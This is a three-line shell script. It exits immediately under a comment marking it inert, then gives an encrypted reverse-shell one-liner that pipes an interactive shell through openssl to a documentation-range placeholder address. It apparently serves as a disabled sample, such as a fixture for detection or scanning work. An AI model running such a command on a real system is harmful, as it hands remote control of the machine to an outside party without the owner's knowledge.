#!/bin/sh
exit 0 # inert
mkfifo /tmp/s; /bin/sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 >/tmp/s
